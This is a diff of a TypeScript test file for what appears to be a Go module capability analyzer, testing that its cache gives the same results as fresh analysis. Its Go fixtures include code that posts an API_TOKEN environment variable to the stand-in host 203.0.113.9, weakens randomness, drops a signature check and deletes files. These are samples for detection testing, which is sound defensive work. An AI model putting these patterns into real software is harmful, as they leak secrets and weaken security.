@@ -94,12 +94,14 @@ func run(name string, args ...string) error { return exec.Command(name, args...)
 
 interface Asked {
   readonly cache?: MemoryCache;
-  readonly dep?: string;
+  /** Undefined: imports are not looked for. */
+  readonly dep?: string | undefined;
   readonly tests?: boolean;
 }
 
-async function optionsOf({ cache, dep = dependency, tests = false }: Asked): Promise<AnalyzerOptions> {
-  const dependencies = dependenciesOf(placed(dep));
+async function optionsOf({ cache, tests = false, ...asked }: Asked): Promise<AnalyzerOptions> {
+  const { dep } = { dep: dependency, ...asked };
+  const dependencies = dep === undefined ? undefined : dependenciesOf(placed(dep));
   return {
     ...(await analyzerOptions({ builds: createBuilds(), tests, dependencies })),
     ...(cache && { cache }),
@@ -121,22 +123,35 @@ interface Judging {
   readonly old: string | undefined;
   readonly fresh: string;
   readonly mode?: CompareMode;
+  /** Of the fresh version. */
+  readonly name?: string;
 }
 
 /** All that is said of a version, also after another one. */
-async function said({ old, fresh, mode = "versions" }: Judging, asked: Asked): Promise<unknown> {
+async function said(
+  { old, fresh, mode = "versions", name = "here" }: Judging,
+  asked: Asked,
+): Promise<unknown> {
   const options = await optionsOf(asked);
   const before =
     old === undefined ? undefined : await analyzeModule({ ...source(old), name: "old" }, options);
-  const after = await analyzeModule(source(fresh), options);
+  const after = await analyzeModule({ ...source(fresh), name }, options);
   const judging = { mode: old === undefined ? "single" : mode, rules, digest: sha256, input: 0 } as const;
   return {
     judged: await judgeModules(before, after, judging),
+    diagnostics: after.diagnostics,
+    counts: after.counts,
     flows: flowLines(after),
     rows: await capabilityRows(after, { input: 0, granularity: "function" }),
     more: await capabilityRows(after, { input: 0, witnesses: 3 }),
     paths: await callPaths(after, { from: "Run", to: "os/exec.Command", limit: 3 }),
   };
+}
+
+/** Asks something of each version, under the names that they have when they are compared. */
+async function askBefore({ old, fresh }: Judging, asked: Asked): Promise<void> {
+  if (old !== undefined) await said({ old: undefined, fresh: old, name: "old" }, asked);
+  await said({ old: undefined, fresh }, asked);
 }
 
 function sha256(text: string): string {
@@ -175,6 +190,13 @@ describe("where something changed it is", () => {
   });
 });
 
+test("that imports are missing is told where they were looked for", async () => {
+  const cache = memoryCache();
+  const judging = { old: undefined, fresh: module };
+  await said(judging, { cache, dep: "-- other/other.go --\npackage other\n" });
+  expect(await said(judging, { cache, dep: undefined })).toEqual(await said(judging, { dep: undefined }));
+});
+
 const edited = module.replace('"--"', '"-"').replace("func Fetch", "func Get").replace("[T any]", "[V any]");
 const grown = `${module.replace("echo", "curl")}
 -- b.go --
@@ -198,11 +220,133 @@ describe("answers are the same as without", () => {
   ])("%s", async (_, judging) => {
     const expected = await said(judging, {});
     const cache = memoryCache();
-    // Of both versions something was asked before, and not what is asked now.
-    for (const fresh of [judging.old, judging.fresh])
-      if (fresh !== undefined) await said({ old: undefined, fresh }, { cache });
+    // And not what is asked now.
+    await askBefore(judging, { cache });
     expect(await said(judging, { cache })).toEqual(expected);
     expect(await said(judging, { cache })).toEqual(expected);
+  });
+});
+
+/** A module with that code. */
+function inModule(imports: readonly string[], code: string): string {
+  const list = imports.map((path) => `\t"${path}"\n`).join("");
+  return `-- go.mod --\nmodule example.test/m\n\ngo 1.22\n-- a.go --\npackage m\n\nimport (\n${list})\n\n${code}`;
+}
+
+const hooks = `
+var hooks []func() error
+
+func RunAll() {
+	for _, hook := range hooks {
+		hook()
+	}
+}
+`;
+
+const others = `
+-- dep.go --
+package dep
+
+import (
+	"crypto/ed25519"
+	"math/rand"
+	"net/http"
+	"os"
+	"strings"
+)
+
+func Token() []byte {
+	b := make([]byte, 16)
+	rand.Read(b)
+	return b
+}
+
+func Fine(key, text, sum []byte) bool { return isFine(key, text, sum) }
+
+func isFine(key, text, sum []byte) bool { return ed25519.Verify(key, text, sum) }
+
+var hosts = []string{"http://203.0.113.9/a", "http://203.0.113.9/b"}
+
+func Send(token string) error {
+	_, err := http.Post(hosts[len(os.Args)], "text/plain", strings.NewReader(token))
+	return err
+}
+
+func Sender(token string) func() error { return func() error { return Send(token) } }
+
+func Named() func() error { return load }
+
+func load() error {
+	_, err := http.Get("http://203.0.113.9/x")
+	return err
+}
+
+func Each[T any](list []T, use func(T)) {
+	for _, one := range list {
+		use(one)
+	}
+}
+
+func Remove(name string) { remove(name) }
+-- dep_linux.go --
+package dep
+
+import "os"
+
+func remove(name string) { os.Remove(name) }
+-- dep_windows.go --
+package dep
+
+func remove(name string) { println(name) }
+`;
+
+const run = "func Run() error { return nil }\n";
+
+describe("what code of other modules says is the same as without", () => {
+  test.each<readonly [string, string, string]>([
+    [
+      "random numbers",
+      inModule(["crypto/rand"], "func Token(b []byte) { rand.Read(b) }\n"),
+      inModule(["example.test/dep"], "func Token(b []byte) { copy(b, dep.Token()) }\n"),
+    ],
+    [
+      "a check that is dropped",
+      inModule(["example.test/dep"], "func Open(k, t, s []byte) bool { return dep.Fine(k, t, s) }\n"),
+      inModule(["example.test/dep"], "func Open(k, t, s []byte) bool { return true }\n"),
+    ],
+    [
+      "texts along flows",
+      inModule([], run),
+      inModule(["example.test/dep", "os"], 'func Run() error { return dep.Send(os.Getenv("API_TOKEN")) }\n'),
+    ],
+    [
+      "who puts closures where others call them",
+      inModule([], hooks),
+      inModule(
+        ["example.test/dep", "os"],
+        `${hooks}\nfunc Add() { hooks = append(hooks, dep.Sender(os.Getenv("API_TOKEN"))) }\n`,
+      ),
+    ],
+    [
+      "what values of functions are given",
+      inModule([], hooks),
+      inModule(["example.test/dep"], `${hooks}\nfunc Add() { hooks = append(hooks, dep.Named()) }\n`),
+    ],
+    [
+      "functions of several forms",
+      inModule([], run),
+      inModule(
+        ["example.test/dep"],
+        'func Run() error {\n\tdep.Each([]string{"a"}, dep.Remove)\n\tdep.Each([]int{1}, func(int) {})\n\treturn nil\n}\n',
+      ),
+    ],
+  ])("%s", async (_, old, fresh) => {
+    const judging = { old, fresh };
+    const cache = memoryCache();
+    await askBefore(judging, { cache, dep: others });
+    const expected = await said(judging, { dep: others });
+    expect(await said(judging, { cache, dep: others })).toEqual(expected);
+    expect(await said(judging, { cache, dep: others })).toEqual(expected);
   });
 });
 
